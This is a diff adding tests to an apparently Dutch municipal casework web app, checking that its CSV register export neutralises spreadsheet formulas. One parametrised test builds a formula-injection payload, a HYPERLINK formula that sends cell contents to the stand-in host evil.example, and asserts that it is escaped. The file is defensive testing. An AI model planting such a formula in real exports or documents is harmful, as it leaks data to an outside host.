@@ -1,6 +1,8 @@
 """Deviations end to end through the API: request, four eyes, execution, register, record."""
 from __future__ import annotations
 
+import csv
+import io
 from datetime import datetime, timedelta
 from typing import Any
 
@@ -9,6 +11,8 @@ from flask.testing import FlaskClient
 
 from conftest import csrf_token, login
 from helpers import BIJSTAND_AANVRAAG, KAP_AANVRAAG, actions, bearer, complete, open_task, start
+from helpers import start as start_case
+from maatwerk.web.serializers import csv_cell
 
 REASON = "De beleidsregel pakt voor deze inwoner onevenredig uit door hoge zorgkosten."
 NOTICE = "We hebben meer tijd nodig om het advies van de arts af te wachten."
@@ -370,3 +374,31 @@ def test_the_page_asks_for_an_extension_of_the_decision_term(
     assert datetime.fromisoformat(approved["due_at"]) - due == timedelta(weeks=4)
     resident = client.get(case["status_url"]).get_data(as_text=True)
     assert NOTICE in resident
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_the_register_export_never_hands_a_spreadsheet_a_formula(
+        client: FlaskClient, tokens: dict[str, str], start: str) -> None:
+    case = start_case(client, tokens["consulent"], "bijzondere_bijstand", BIJSTAND_AANVRAAG)
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1;"klik") {REASON}'
+    _request(client, tokens["consulent"], case["id"], type="extend_deadline",
+             values={"weeks": 2}, reason=formula,
+             resident_message="Wij hebben twee weken meer nodig om goed te beslissen.")
+    for text in (client.get("/api/v1/deviations?format=csv",
+                            headers=bearer(tokens["consulent"])).get_data(as_text=True),
+                 _signed_in_csv(client)):
+        [row] = [r for r in csv.DictReader(io.StringIO(text, newline=""))
+                 if "HYPERLINK" in r["reason"]]
+        assert row["reason"] == "'" + formula
+
+
+def test_a_cell_that_starts_with_a_tab_or_return_is_neutralised_too() -> None:
+    # the services strip the texts people write, so these come only from other data
+    assert csv_cell("\tHYPERLINK()") == "'\tHYPERLINK()"
+    assert csv_cell("\r=1+1") == "'\r=1+1"
+    assert csv_cell("Gewone tekst") == "Gewone tekst" and csv_cell(-5) == -5
+
+
+def _signed_in_csv(client: FlaskClient) -> str:
+    login(client, "consulent")
+    return client.get("/werk/afwijkingen?format=csv").get_data(as_text=True)
